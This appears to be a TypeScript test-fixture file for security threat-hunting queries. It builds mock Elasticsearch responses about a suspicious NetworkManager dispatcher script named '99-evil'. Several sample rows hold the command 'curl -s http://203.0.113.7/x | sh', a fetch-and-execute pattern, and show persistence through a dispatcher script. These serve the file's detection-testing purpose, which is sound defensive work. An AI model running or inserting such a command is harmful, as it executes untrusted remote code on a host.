import { esqlResponse } from '../../functions/local/elasticsearch-stand-in';

/** Column types as Elasticsearch reports them for the hunts' result rows. */
const TYPES: Record<string, string> = {
  event_count: 'long',
  agent_count: 'long',
  first_seen: 'date',
  last_seen: 'date',
  rare_groups: 'long',
};

/** Builds a `_query` response from row objects, with the columns in the given order. */
export function responseFor(columnOrder: string[], rows: Record<string, unknown>[], extra: { is_partial?: boolean } = {}) {
  return esqlResponse(
    columnOrder.map((name) => ({ name, type: TYPES[name] ?? 'keyword' })),
    rows.map((row) => columnOrder.map((name) => row[name] ?? null)),
    extra,
  );
}

const STATS = ['event_count', 'agent_count', 'first_seen', 'last_seen'];
export const CHILD_COLUMNS = [...STATS, 'parent_script', 'process.executable', 'masked_command_line'];
export const WRITE_COLUMNS = [...STATS, 'file.path', 'process.executable'];
export const WRITE_SAMPLE_COLUMNS = ['file.path', 'process.executable', 'event_count', 'agent_count', 'agent_hosts', 'host_names', 'agent_ids', 'hashes', 'writer_command_lines', 'users'];

export const childRow = (over: Record<string, unknown> = {}) => ({
  event_count: 2,
  agent_count: 1,
  first_seen: '2026-11-20T01:02:03.000Z',
  last_seen: '2026-11-24T01:02:03.000Z',
  parent_script: '/etc/NetworkManager/dispatcher.d/99-evil',
  'process.executable': '/usr/bin/curl',
  masked_command_line: 'curl -s http://203.0.113.7/x | sh',
  ...over,
});

export const writeRow = (over: Record<string, unknown> = {}) => ({
  event_count: 1,
  agent_count: 1,
  first_seen: '2026-11-24T01:00:00.000Z',
  last_seen: '2026-11-24T01:00:00.000Z',
  'file.path': '/etc/NetworkManager/dispatcher.d/99-evil',
  'process.executable': '/usr/bin/bash',
  ...over,
});

export const writeSamples = (over: Record<string, unknown> = {}) => ({
  ...writeRow(),
  agent_hosts: 'agent-1\u0000web-01',
  host_names: 'web-01',
  agent_ids: 'agent-1',
  hashes: null,
  writer_command_lines: null,
  users: 'root',
  ...over,
});

/** A recorded rare group of the write hunt, with the samples phase 2 returns (see answerFromRecordedGroups). */
export const writeGroup = (path: string, writer: string | null, over: Record<string, unknown> = {}) => ({
  ...writeSamples({ 'file.path': path, 'process.executable': writer }),
  agent_hosts: ['agent-1\u0000web-01'],
  host_names: ['web-01'],
  agent_ids: ['agent-1'],
  hashes: [],
  writer_command_lines: [],
  users: ['root'],
  ...over,
});

/** A recorded rare group of the child hunt, with its samples. */
export const childGroup = (over: Record<string, unknown> = {}) => ({ ...childRow(), host_names: ['web-01'], agent_ids: ['agent-1'], command_lines: ['curl -s http://203.0.113.7/x | sh'], ...over });
